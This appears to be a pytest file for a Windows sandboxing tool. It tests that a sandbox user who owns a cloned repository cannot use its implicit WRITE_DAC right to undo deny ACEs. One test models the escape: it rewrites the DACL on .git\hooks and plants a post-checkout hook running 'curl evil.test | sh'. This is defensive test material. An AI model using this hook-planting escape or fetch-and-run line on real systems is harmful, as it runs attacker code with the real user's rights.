"""win-acl A3: a deny ACE is no boundary on an object the sandbox user owns.

"An object's owner implicitly has WRITE_DAC access to the object. This means that the owner can
modify the object's discretionary access control list (DACL)"
(https://learn.microsoft.com/en-us/windows/win32/secauthz/owner-of-a-new-object), and every object
the sandbox user creates is its own: a repository cloned or `git init`ed inside an earlier run is.
The NTFS model (tests/support/ntfsmodel.py) grants the owner that right as Windows does, so the
attack is shown on it. sandgate puts an OWNER RIGHTS ACE on such objects, which takes the owner's
implicit rights away (aclapply.owner_rights; tests/unit/test_windows_r2fix_owner.py); where the real user
cannot change their ACL (a drive-root DACL here: Modify, no WRITE_DAC) the run is refused in one line with
nothing changed, and runs once an administrator took ownership. Fake evidence only.
"""

from __future__ import annotations

import ctypes
from typing import Any

import pytest

from fsguard import policy as fspolicy
from fsguard.windows import acl, aclapply, win32fileowner, winpath
from launcher import cli
from sgbase.windows.api import WinApiError
from tests.support import ntfsmodel, winfake
from tests.support.winfake import APPDATA, HOME, REAL_SID, WS, FakeWinApi, workspace

SID = "S-1-5-21-1111111111-2222222222-3333333333-1001"
CLONED = (WS, WS + r"\.git", WS + r"\.git\config", WS + r"\.git\HEAD", WS + r"\.git\hooks")  # made in a run
HOOK = WS + r"\.git\hooks\post-checkout"


def _apply(api: FakeWinApi) -> None:
    fs = fspolicy.FsPolicy()
    existing = frozenset(winpath.key(p) for p in acl.candidates(fs, cwd=WS, home=HOME) if api.exists(p))
    plan = acl.plan_acls(fs, sid=SID, cwd=WS, home=HOME, existing=existing)
    aclapply.apply(api, plan, SID, aclapply.Applied(APPDATA + r"\sandgate-owner.jsonl"))


def test_the_owner_resets_a_denied_acl_and_plants_a_hook_the_model_enforces_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Why the check exists: with the denies applied regardless, the owner undoes them."""
    monkeypatch.setattr(aclapply, "owner_rights", lambda api, plan, sid: (plan, frozenset()))  # without the fix
    for owner, planted in ((SID, True), (REAL_SID, False)):
        m = workspace()
        m.owners.update({p: owner for p in CLONED})
        api = FakeWinApi(m)
        _apply(api)
        box = ntfsmodel.Ntfs(api.m, SID)
        with pytest.raises(ntfsmodel.Denied):
            box.write(HOOK, b"#!/bin/sh\ncurl evil.test | sh\n")  # the deny ACE holds for writing
        if not planted:
            with pytest.raises(ntfsmodel.Denied):
                box.set_dacl(WS + r"\.git\hooks", f"D:AI(A;OICI;FA;;;{SID})")
            continue
        box.set_dacl(WS + r"\.git\hooks", f"D:AI(A;OICI;FA;;;{SID})")  # the owner's WRITE_DAC
        box.write(HOOK, b"#!/bin/sh\ncurl evil.test | sh\n")
        assert HOOK in api.m.files  # runs as the real user at their next checkout


#: A workspace under C:\ (Windows 10/11's root ACL): the real user holds Authenticated Users' Modify, no
#: WRITE_OWNER, on what the sandbox user made there, so it cannot take it back (r2-fixes F3).
DRIVE_ROOT_DACL = "D:AI(A;OICIID;FA;;;SY)(A;OICIID;FA;;;BA)(A;OICIID;0x1301bf;;;AU)"


def test_apply_refuses_a_workspace_the_sandbox_user_owns_where_the_real_user_cannot_change_its_acl() -> None:
    m = workspace()
    m.owners.update({p: SID for p in CLONED})
    m.dacls.update({p: DRIVE_ROOT_DACL for p in CLONED})
    api = FakeWinApi(m)
    before = api.snapshot()
    with pytest.raises(WinApiError) as e:
        _apply(api)
    assert "belongs to the sandbox user" in str(e.value) and "takeown" in str(e.value) and "\n" not in str(e.value)
    assert "make_dir" not in api.names() and "write_file" not in api.names()  # refused on the first owned object
    assert api.m.dacls == before.dacls


def test_a_run_in_a_repository_cloned_inside_an_earlier_run_is_refused_where_its_acl_cannot_be_changed(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    api = winfake.installed(monkeypatch)
    sandbox = winfake.sandbox_sid(api)
    api.m.owners.update({p: sandbox for p in CLONED})
    api.m.dacls.update({p: DRIVE_ROOT_DACL for p in CLONED})  # else the real user may add the OWNER RIGHTS ACE
    dacls = dict(api.m.dacls)
    with pytest.raises(SystemExit):
        cli.main(["run", "--allow", "example.test", "--", "tool"])
    err = capsys.readouterr().err
    assert "sandgate: error:" in err and "belongs to the sandbox user" in err and "Traceback" not in err
    assert "start_suspended" not in api.names() and api.m.dacls == dacls  # nothing ran, nothing left
    api.m.owners.clear()  # takeown /F ... /R as administrator: the real user's again
    api.calls.clear()
    assert cli.main(["run", "--allow", "example.test", "--", "tool"]) == api.exit_code  # the same run, permitted
    assert "start_suspended" in api.names() and api.m.dacls == dacls  # ran, and restored after


def test_owner_sid_reads_the_owner_and_frees_the_descriptor_last(monkeypatch: pytest.MonkeyPatch) -> None:
    """The binding's contract (GetNamedSecurityInfoW, ConvertSidToStringSidW, LocalFree): the owner
    SID points into the returned descriptor, so the descriptor is freed after the text."""
    seen: list[tuple[str, Any]] = []

    def get_named(path: str, kind: int, info: int, owner: Any, group: Any, dacl: Any, sacl: Any, sd: Any) -> int:
        assert (kind, info, group, dacl, sacl) == (1, win32fileowner.OWNER_SECURITY_INFORMATION, None, None, None)
        owner._obj.value, sd._obj.value = 0x5000, 0x4000
        seen.append(("GetNamedSecurityInfoW", path))
        return 0

    def to_text(psid: Any, out: Any) -> int:
        assert psid.value == 0x5000
        out._obj.value = SID
        return 1

    def free(p: Any) -> None:
        seen.append(("LocalFree", p.value if isinstance(p, ctypes.c_void_p) else "text"))

    calls = {"GetNamedSecurityInfoW": get_named, "ConvertSidToStringSidW": to_text, "LocalFree": free}
    monkeypatch.setattr(win32fileowner, "fn", lambda name: calls[name])
    monkeypatch.setattr("fsguard.windows.win32fileowner.os.path.lexists", lambda p: p == WS)
    assert win32fileowner.owner_sid(WS) == SID
    assert seen == [("GetNamedSecurityInfoW", WS), ("LocalFree", "text"), ("LocalFree", 0x4000)]
    assert win32fileowner.owner_sid(WS + r"\gone") is None


def test_the_real_owner_read_is_one_line_with_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    from launcher.run.windows.realapi import RealWinApi
    from sgbase.windows.win32 import Win32Error

    def refused(path: str) -> str | None:
        raise Win32Error(5, "Access is denied")

    monkeypatch.setattr(win32fileowner, "owner_sid", refused)
    with pytest.raises(WinApiError) as e:
        RealWinApi().owner(WS + r"\.git")
    assert "takeown" in str(e.value) and "\n" not in str(e.value)
    monkeypatch.setattr(win32fileowner, "owner_sid", lambda path: SID)
    assert RealWinApi().owner(WS) == SID
